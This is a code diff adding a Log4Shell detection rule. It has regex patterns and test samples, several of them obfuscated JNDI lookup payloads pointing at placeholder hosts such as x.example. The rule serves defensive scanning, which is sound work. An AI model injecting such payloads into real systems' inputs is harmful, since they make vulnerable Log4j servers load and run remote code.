@@ -1,0 +1,25 @@
+import { defineRule } from '../rule.ts';
+
+/** `${jndi:ldap://…}`, also put together from other lookups (CVE-2021-44228). */
+export const jndi = defineRule({
+  id: 'log4shell/jndi',
+  class: 'log4shell',
+  threats: ['T2'],
+  title: 'A lookup makes Log4j load code from elsewhere',
+  score: 1,
+  on: 'text',
+  view: 'lookup',
+  words: ['${'],
+  patterns: [
+    /\$\{\s{0,8}jndi\s{0,8}:/i,
+    /\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http)\s{0,4}:/i,
+    /\$\{[^}]{0,80}\$\{[^}]{0,80}(?:ldaps?|rmi|dns|iiop)[^}]{0,8}:\s{0,4}\/\//i,
+  ],
+  hits: [
+    '${jndi:ldap://x.example/a}',
+    '${${lower:j}ndi:rmi://x/a}',
+    '${${::-j}${::-n}${::-d}${::-i}:dns://x}',
+    '${j${k8s:k5:-ND}i:ldap://x/a}',
+  ],
+  misses: ['Hello ${name}!', '${AWS::StackName}-bucket', '${env:HOME}', 'what is jndi?'],
+});
